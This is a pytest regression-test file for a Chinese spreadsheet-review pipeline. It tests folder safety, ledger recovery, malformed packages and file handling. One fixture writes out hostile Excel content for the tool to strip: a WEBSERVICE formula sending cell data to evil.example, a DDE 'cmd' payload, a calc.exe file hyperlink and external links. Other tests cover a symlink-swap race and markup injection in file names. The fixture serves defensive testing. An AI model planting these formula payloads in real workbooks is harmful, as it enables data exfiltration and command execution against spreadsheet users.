"""Issue #18, reliability second pass: one regression test per row of the issue's table (named after it).

Each test drives the library or the command line with a workbook made in the test (tests/hostile.py,
tests/builders.py) and reads what jixiao wrote back: the ledger, the output folder, the workbooks.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from pipeline.cli import main
from tests import hostile as h

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(autouse=True)
def _wide_console(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "1000")  # one console line per message: names and paths are not folded


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def terminal(*argv: str) -> tuple[int, str, str]:
    """`jixiao ARGV` as a user runs it, in a process of its own (its logging and warnings as configured)."""
    import subprocess
    import sys

    env = {**os.environ, "COLUMNS": "1000"}
    done = subprocess.run(
        [sys.executable, "-m", "pipeline", *argv], cwd=ROOT, capture_output=True, text=True, env=env, check=False
    )
    return done.returncode, done.stdout, done.stderr


def one_line(text: str) -> str:
    return "".join(line.strip() for line in text.splitlines())


# ------------------------------------------------------------------ row 1: a folder that eats itself


@pytest.mark.parametrize("layout", ["same", "link", "out_inside_inbox", "inbox_inside_out"])
def test_row1_out_inside_inbox_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], layout: str) -> None:
    inbox = tmp_path / "box"
    inbox.mkdir()
    h.write_submission(inbox / "a.xlsx", unit="甲单位")
    out = {
        "same": inbox,
        "link": tmp_path / "link",
        "out_inside_inbox": inbox / "out",
        "inbox_inside_out": tmp_path,
    }[layout]
    if layout == "link":
        out.symlink_to(inbox)
    before = sorted(p for p in tmp_path.rglob("*"))
    code, _, err = run_cli(capsys, "run", str(inbox), "--out", str(out), "--workers", "0")
    assert code == 2
    assert f"收件箱与输出目录不能相同或互相包含（含经由链接）：收件箱 {inbox}，输出目录 {out}" in one_line(err)
    assert sorted(p for p in tmp_path.rglob("*")) == before  # nothing archived, moved or created


# ------------------------------------------------------------------ row 2: a name that blocks the inbox


def test_row2_long_name_resubmitted_is_numbered_within_the_name_limit(tmp_path: Path) -> None:
    from pipeline.batch.engine import run_inbox

    inbox, out = tmp_path / "inbox", tmp_path / "out"
    name = "单" * 83 + ".xlsx"  # 254 bytes: `…(2).xlsx` would be 257
    assert len(name.encode()) == 254
    for unit in ("甲单位", "乙单位"):  # the unit sends again under the same name, other content
        h.write_submission(inbox / name, unit=unit)
        report = run_inbox(inbox, out, workers=0, settle_s=0, wait_s=0)
        assert [o.status for o in report.outcomes] == ["warnings"]
    filed = sorted(p.name for p in (out / "processed").iterdir())
    assert len(filed) == 2 and name in filed
    assert all(len(n.encode()) <= 255 for n in filed)
    assert next(n for n in filed if n != name).endswith("(2).xlsx")
    assert list(inbox.iterdir()) == []


# ------------------------------------------------------------------ row 4: one name, two units, one result


def test_row4_same_name_in_two_folders_gets_two_results(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import unicodedata

    import openpyxl

    name = "自评表_é.xlsx"  # é: its NFC and NFD forms are two names for the file system, one for Excel
    first = h.write_submission(tmp_path / "a" / unicodedata.normalize("NFC", name), unit="甲单位")
    second = h.write_submission(tmp_path / "b" / unicodedata.normalize("NFD", name), unit="乙单位")
    third = h.write_submission(tmp_path / "c" / name, unit="丙单位")
    out = tmp_path / "out"
    code, text, _ = run_cli(capsys, "check", str(first), str(second), str(third), "--out", str(out), "--workers", "0")
    assert code == 0
    said = "审核结果工作簿："
    written = [Path(line.split(said)[1].strip()) for line in text.splitlines() if said in line]
    assert len(set(written)) == 3 and sorted(written) == sorted(out.iterdir())
    units = []
    for path in written:
        wb = openpyxl.load_workbook(path, read_only=True)
        units.append(wb["审核结果"]["C3"].value)
        wb.close()
    assert units == ["甲单位", "乙单位", "丙单位"]


# ------------------------------------------------------------------ row 5: a damaged ledger, silent loss


@pytest.mark.parametrize("damage", ["garbage", "truncated", "empty", "missing", "no_tables"])
def test_row5_damaged_ledger_stops_and_recover_rebuilds_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str
) -> None:
    import contextlib
    import sqlite3

    from pipeline.store.ledger import Ledger
    from tests.test_batch import copy_samples
    from tests.test_review import UNIT, _decided, _type

    inbox, out = tmp_path / "inbox", tmp_path / "out"
    copy_samples(inbox, [f"{UNIT}_2023.xlsx", "白云区市场监督服务中心_2023.xlsx"])
    assert run_cli(capsys, "run", str(inbox), "--out", str(out), "--workers", "0")[0] == 1
    summary = out / "汇总_2023.xlsx"
    _type(summary, {(UNIT, "A1.REQ.FRUGALITY"): ("认可", "已电话核实")})
    decided = _decided(summary)
    with Ledger(out / "ledger.sqlite3") as ledger:
        before = sorted((e.sha256, e.original_path, e.status, e.unit, e.dest_path) for e in ledger.entries())
    ledger_file = out / "ledger.sqlite3"
    data = ledger_file.read_bytes()
    for side in ("-wal", "-shm"):
        Path(f"{ledger_file}{side}").unlink(missing_ok=True)
    if damage == "missing":
        ledger_file.unlink()
    elif damage == "no_tables":  # a sound SQLite file without a table: what is left when the -wal is lost
        ledger_file.unlink()
        with contextlib.closing(sqlite3.connect(ledger_file)) as empty:
            empty.execute("PRAGMA journal_mode = WAL")  # writes the header: a valid file of 4096 bytes
    else:
        damaged = {"garbage": b"not a ledger " * 500, "truncated": data[: len(data) // 3], "empty": b""}
        ledger_file.write_bytes(damaged[damage])

    for argv in (("run", str(inbox), "--out", str(out)), ("summary", "--out", str(out)), ("export", "--out", str(out))):
        code, text, err = run_cli(capsys, *argv)
        assert code == 2, argv
        assert "jixiao ledger recover --out" in one_line(err) and "Traceback" not in err + text
    kept = sorted(p.name for p in out.glob("ledger.damaged-*.sqlite3"))
    assert len(kept) == (0 if damage == "missing" else 1)  # set aside, never deleted
    assert not ledger_file.exists()

    code, text, _ = run_cli(capsys, "ledger", "recover", "--out", str(out))
    assert code == 0 and "已从归档重建审核账本：2 个文件" in one_line(text)
    with Ledger(out / "ledger.sqlite3") as ledger:
        after = sorted((e.sha256, e.original_path, e.status, e.unit, e.dest_path) for e in ledger.entries())
    assert after == before
    assert _decided(summary) == decided  # the reviewer's 审核意见 came back from the last 汇总
    assert run_cli(capsys, "ledger", "recover", "--out", str(out))[0] == 2  # a sound ledger is not rebuilt


# ------------------------------------------------------------------ row 6: another unit's last-year figures


def test_row6_name_match_alone_quotes_nothing_of_the_other_units_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import shutil

    import openpyxl

    from pipeline.check import load_submission
    from tests.test_batch import age
    from tests.test_last_year import THIS_YEAR, UNIT, _last_year

    out = tmp_path / "out"
    (tmp_path / "x").mkdir()
    _last_year(tmp_path / "x" / f"{UNIT}_2022.xlsx")  # unit X's own workbook of last year
    run_cli(capsys, "run", str(tmp_path / "x"), "--out", str(out), "--workers", "0")
    (tmp_path / "y").mkdir()  # another sender's workbook that names unit X (no code, no roster)
    age(Path(shutil.copyfile(THIS_YEAR, tmp_path / "y" / "他单位_2023.xlsx")))
    run_cli(capsys, "run", str(tmp_path / "y"), "--out", str(out), "--workers", "0")

    [result] = (out / "results").glob("他单位_2023*")
    wb = openpyxl.load_workbook(result)
    texts = [str(c.value) for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    texts += [c.comment.text for ws in wb for row in ws.iter_rows() for c in row if c.comment]
    flagged = [t for t in texts if "上年报送仅按单位名称匹配" in t]
    assert flagged  # the finding is there, and says how last year's workbook was found
    last_public = load_submission(THIS_YEAR).forms["a1"].points["a1.public.prev"].value - 1
    assert not [t for t in texts if f"{UNIT}_2022" in t or f"{last_public:.2f}" in t]


# ------------------------------------------------------------------ row 7: malformed packages, a traceback


def malformed_packages(folder: Path) -> list[Path]:
    """A valid submission whose package is malformed four ways the writer used to die on."""
    import zipfile

    base = h.write_submission(folder / "base.tmp.xlsx", unit="畸形包测试单位")
    with zipfile.ZipFile(base) as z:
        book, types = z.read("xl/workbook.xml"), z.read("[Content_Types].xml")
        sheet = z.read("xl/worksheets/sheet1.xml")
    utf16 = types.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    variants = {
        "garbage_book": {"xl/workbook.xml": book.replace(b"<sheets>", b"<sheets><<>>garbage", 1)},
        "bad_char_ref": {"xl/workbook.xml": book.replace(b"<sheets>", b"<sheets>&#1;", 1)},
        "utf16_types": {"[Content_Types].xml": utf16},
        "bad_encoding": {"xl/worksheets/sheet1.xml": sheet.replace(b"</worksheet>", b"<!-- \xff\xfe --></worksheet>")},
    }
    paths = [h.rewrite_zip(base, folder / f"{name}.xlsx", replace=parts) for name, parts in variants.items()]
    base.unlink()
    return paths


def _sheet_texts(path: Path, sheet: str) -> list[str]:
    import openpyxl

    wb = openpyxl.load_workbook(path)
    return [str(c.value) for row in wb[sheet].iter_rows() for c in row if c.value is not None]


def test_row7_malformed_packages_are_annotated_without_a_traceback(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    files = malformed_packages(tmp_path / "in")
    out = tmp_path / "out"
    code, text, err = terminal("check", *map(str, files), "--out", str(out))  # what the user's terminal shows
    assert code == 0
    assert "Traceback" not in err + text and "ERROR" not in err + text and "WARNING" not in err + text
    assert err == ""
    for path in files:
        result = out / f"{path.stem}_审核结果.xlsx"
        assert "A1.REQ.CONTACT" in _sheet_texts(result, "审核结果"), path.name  # the findings sheet, readable


def test_row7_a_writer_that_cannot_copy_the_sheets_says_so_in_chinese(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The unit's sheets defeat the writer itself: the findings sheet alone, saying why in Chinese."""
    import openpyxl

    from pipeline.report import annotate
    from pipeline.report.marks import MSG_SHEETS_LEFT_OUT

    def fails(*args: object) -> None:
        raise ValueError("a sheet this writer cannot reproduce")

    (tmp_path / "in").mkdir()
    [path] = [p for p in malformed_packages(tmp_path / "in") if p.stem == "garbage_book"]
    monkeypatch.setattr(annotate, "_write_sheet", fails)
    assert run_cli(capsys, "check", str(path), "--out", str(tmp_path / "out"), "--workers", "0")[0] == 0
    result = tmp_path / "out" / "garbage_book_审核结果.xlsx"
    assert openpyxl.load_workbook(result).sheetnames == ["审核结果"]
    texts = _sheet_texts(result, "审核结果")
    assert MSG_SHEETS_LEFT_OUT in texts and "A1.REQ.CONTACT" in texts


# ------------------------------------------------------------------ row 3: formulas that reach out

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_EVIL = "http://evil.example"
#: Cells appended to 附件1 (row, formula as stored, cached value or None, type): all but the SUM reach out.
OUTSIDE = {
    200: (f'WEBSERVICE("{_EVIL}/?"&amp;B3)', "ok", "str"),
    201: ("cmd|' /C calc'!A0", "0", "str"),
    202: (f'HYPERLINK("{_EVIL}","点此")', "点此", "str"),
    203: ('HYPERLINK("file:///C:/Windows/System32/calc.exe","calc")', "calc", "str"),
    204: ("'[other.xlsx]Sheet1'!A1", "5", None),
    205: ("[1]Sheet1!A1", "6", None),
    206: ("Evil+1", "7", None),
    207: (f'_xlfn.FILTERXML(_xlfn.WEBSERVICE("{_EVIL}/x"),"//a")', None, "str"),  # never calculated
}
ORDINARY = 209  # =SUM(1,2), cached 3: stays


def outside_reaching_xlsx(path: Path) -> Path:
    """A valid submission whose 附件1 also holds every kind of formula and link that reaches outside the
    workbook, a defined name holding WEBSERVICE, an externalLink part with an http target, a cell hyperlink
    to an outside target, and one ordinary formula."""
    import zipfile

    base = h.write_submission(path.with_suffix(".base.xlsx"), unit="外部链接测试单位")
    with zipfile.ZipFile(base) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        book, book_rels = z.read("xl/workbook.xml").decode(), z.read("xl/_rels/workbook.xml.rels").decode()
        types = z.read("[Content_Types].xml").decode()
    rows = "".join(
        f'<row r="{r}"><c r="A{r}"{f" t={chr(34)}{t}{chr(34)}" if t else ""}><f>{f}</f>'
        + (f"<v>{v}</v>" if v is not None else "")
        + "</c></row>"
        for r, (f, v, t) in OUTSIDE.items()
    )
    rows += '<row r="208"><c r="A208" t="inlineStr"><is><t>链接</t></is></c></row>'
    rows += f'<row r="{ORDINARY}"><c r="A{ORDINARY}"><f>SUM(1,2)</f><v>3</v></c></row>'
    sheet = sheet.replace("</sheetData>", rows + "</sheetData>").replace(
        "<printOptions", '<hyperlinks><hyperlink ref="A208" r:id="rIdEvil"/></hyperlinks><printOptions'
    )
    link = f'<Relationship Id="rIdEvil" Type="{_R}/hyperlink" Target="{_EVIL}/page" TargetMode="External"/>'
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    sheet_rels = f'<Relationships xmlns="{pkg}">{link}</Relationships>'
    refs = '<externalReferences><externalReference r:id="rIdExt"/></externalReferences>'
    book = book.replace("</sheets>", f"</sheets>{refs}")
    evil_name = f'<definedName name="Evil">WEBSERVICE("{_EVIL}/n")</definedName>'
    book = book.replace("<definedNames>", f"<definedNames>{evil_name}")
    target = "externalLinks/externalLink1.xml"
    book_rels = book_rels.replace(
        "</Relationships>", f'<Relationship Id="rIdExt" Type="{_R}/externalLink" Target="{target}"/></Relationships>'
    )
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    types = types.replace("</Types>", f'<Override PartName="/xl/{target}" ContentType="{ct}"/></Types>')
    external = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{_R}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>6</v></cell></row></sheetData>'
        "</sheetDataSet></externalBook></externalLink>"
    )
    external_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_R}/externalLinkPath" Target="{_EVIL}/other.xlsx" TargetMode="External"/>'
        "</Relationships>"
    )
    h.rewrite_zip(
        base,
        path,
        replace={
            "xl/worksheets/sheet1.xml": sheet.encode(),
            "xl/workbook.xml": book.encode(),
            "xl/_rels/workbook.xml.rels": book_rels.encode(),
            "[Content_Types].xml": types.encode(),
        },
        add={
            "xl/worksheets/_rels/sheet1.xml.rels": sheet_rels.encode(),
            "xl/externalLinks/externalLink1.xml": external.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": external_rels.encode(),
        },
    )
    base.unlink()
    return path


def test_row3_formulas_reaching_out_are_replaced_and_named(tmp_path: Path) -> None:
    import re
    import zipfile

    import openpyxl

    from pipeline.check import check_files

    src = outside_reaching_xlsx(tmp_path / "外部链接.xlsx")
    [result] = check_files([src], out_dir=tmp_path / "out")
    flagged = sorted(f.cells for f in result.findings if f.rule == "GEN.EXTERNAL")
    assert flagged == sorted((f"A{r}",) for r in [*OUTSIDE, 208])
    assert {f.level for f in result.findings if f.rule == "GEN.EXTERNAL"} == {"warning"}
    assert result.output is not None
    with zipfile.ZipFile(result.output) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    assert not [n for n in parts if "externalLink" in n]
    sheets = b"".join(data for name, data in parts.items() if name.startswith("xl/worksheets/sheet"))
    assert re.findall(rb"<f\b[^>]*>(.*?)</f>", sheets) == [b"SUM(1,2)"]  # the one ordinary formula, no other
    assert b"<f " not in sheets and b"<f/>" not in sheets
    rels = b"".join(data for name, data in parts.items() if name.endswith(".rels"))
    assert b"evil" not in rels and b"External" not in rels and b"http://evil" not in parts["[Content_Types].xml"]
    book = parts["xl/workbook.xml"]
    assert b"evil" not in book and b"externalReference" not in book and b'definedName name="Evil"' not in book
    assert b"evil" not in b"".join(
        data for name, data in parts.items() if "sheet" not in name and "comments" not in name
    )
    ws = openpyxl.load_workbook(result.output)["附件1 基础数据表"]
    assert [ws[f"A{r}"].value for r in (200, 201, 202, 204, 205, 206)] == ["ok", "0", "点此", 5, 6, 7]
    assert ws["A207"].value.startswith("=_xlfn.FILTERXML") and ws["A207"].data_type == "s"  # the text as typed
    assert ws[f"A{ORDINARY}"].value == "=SUM(1,2)"  # an ordinary formula stays
    assert ws["A208"].hyperlink is None


# ------------------------------------------------------------------ row 8: the low ones


def test_row8_a_file_swapped_for_a_link_after_the_scan_is_skipped_with_a_note(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pipeline.batch import inbox as inbox_module
    from pipeline.batch.engine import run_inbox

    inbox, out = tmp_path / "inbox", tmp_path / "out"
    inbox.mkdir()
    h.write_submission(inbox / "a.xlsx", unit="甲单位")
    secret = h.write_submission(tmp_path / "secret.xlsx", unit="别处的文件")  # outside the inbox
    scan = inbox_module.Inbox.scan

    def then_swapped(self: inbox_module.Inbox, **kwargs: object) -> inbox_module.Scan:
        found = scan(self, **kwargs)  # type: ignore[arg-type]
        (inbox / "a.xlsx").unlink()
        (inbox / "a.xlsx").symlink_to(secret)  # between the scan and the copy into the archive
        return found

    monkeypatch.setattr(inbox_module.Inbox, "scan", then_swapped)
    report = run_inbox(inbox, out, workers=0, settle_s=0, wait_s=0)
    assert report.outcomes == [] and report.skipped == [("a.xlsx", inbox_module.SKIPPED_ZH["changed"])]
    assert [p for p in (out / "archive").rglob("*") if p.is_file()] == []  # the link's target was not copied
    assert (inbox / "a.xlsx").is_symlink()


def test_row8_skipped_files_are_listed_with_their_reason(tmp_path: Path) -> None:
    inbox, out = tmp_path / "inbox", tmp_path / "out"
    (inbox / ".hidden").mkdir(parents=True)
    h.write_submission(tmp_path / "elsewhere.xlsx", unit="甲单位")
    (inbox / "link.xlsx").symlink_to(tmp_path / "elsewhere.xlsx")
    (inbox / "..x.xlsx").write_bytes(b"x")
    (inbox / "a.tmp").write_bytes(b"x")
    (inbox / ".hidden" / "b.xlsx").write_bytes(b"x")
    code, text, err = terminal("run", str(inbox), "--out", str(out), "--workers", "0")
    assert code == 0 and err == ""
    assert "收件箱中没有可审核的新文件" in text and "已跳过 4 项（未审核，留在收件箱中）：" in text
    for line in (
        ".hidden/：隐藏文件夹",
        "..x.xlsx：隐藏文件",
        "a.tmp：未下载完成的文件或临时文件",
        "link.xlsx：符号链接",
    ):
        assert line in text, line
    assert "INFO" not in text + err and "WARNING" not in text + err


def test_row8_file_names_are_printed_as_text_not_markup(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name = "[link=evil.example]点我[bold red]x.xlsx"
    path = tmp_path / name
    path.write_bytes(b"not a workbook")
    code, text, _ = run_cli(capsys, "check", str(path), "--workers", "0")
    assert code == 2
    assert name in text  # shown as it is: a markup tag would have been swallowed


def _lying_shared_strings(path: Path) -> Path:
    import re
    import zipfile

    base = h.write_submission(path.with_suffix(".base.xlsx"), unit="共享字符串测试单位")
    with zipfile.ZipFile(base) as z:
        sst = z.read("xl/sharedStrings.xml").decode()
    sst = re.sub(r'uniqueCount="\d+"', 'uniqueCount="99999999"', sst, count=1)
    h.rewrite_zip(base, path, replace={"xl/sharedStrings.xml": sst.encode()})
    base.unlink()
    return path


def test_row8_a_lying_shared_string_count_gets_one_verdict_with_and_without_workers(tmp_path: Path) -> None:
    from pipeline.check import check_files

    path = _lying_shared_strings(tmp_path / "sst.xlsx")
    inline, isolated = check_files([path], workers=0)[0], check_files([path], workers=1)[0]
    assert not inline.rejected and not isolated.rejected
    assert inline.unit == isolated.unit == "共享字符串测试单位"
    assert [(f.rule, f.cells) for f in inline.findings] == [(f.rule, f.cells) for f in isolated.findings]


def test_row8_one_stray_cell_far_down_does_not_refuse_the_workbook(tmp_path: Path) -> None:
    from pipeline.check import check_files
    from tests.builders import edit_workbook

    clean = h.write_submission(tmp_path / "clean.xlsx", unit="甲单位")
    stray = h.write_submission(tmp_path / "stray.xlsx", unit="甲单位")

    def far_down(wb: object) -> None:
        wb.worksheets[0]["A1048576"] = "误输入"  # type: ignore[attr-defined]

    edit_workbook(stray, far_down)
    edit_workbook(clean, lambda wb: None)  # the same round trip through openpyxl, without the stray cell
    clean_result, stray_result = check_files([clean, stray], workers=0)
    assert not stray_result.rejected and stray_result.unit == "甲单位"
    assert [(f.rule, f.cells) for f in stray_result.findings] == [(f.rule, f.cells) for f in clean_result.findings]


def test_row8_a_complete_zip_of_an_unsupported_version_is_refused_at_once(tmp_path: Path) -> None:
    import struct

    from pipeline.check import check_files
    from pipeline.read.sniff import MSG_ZIP_VERSION, looks_complete

    data = bytearray(h.write_submission(tmp_path / "v.xlsx", unit="甲单位").read_bytes())
    at = data.index(b"PK\x01\x02")
    data[at + 6 : at + 8] = struct.pack("<H", 64)  # "version needed to extract" 6.4: beyond what zipfile reads
    (tmp_path / "v.xlsx").write_bytes(bytes(data))
    assert looks_complete(tmp_path / "v.xlsx")  # whole: not waited for as a copy in progress
    [result] = check_files([tmp_path / "v.xlsx"], workers=0)
    assert result.rejected and result.findings[0].message == MSG_ZIP_VERSION
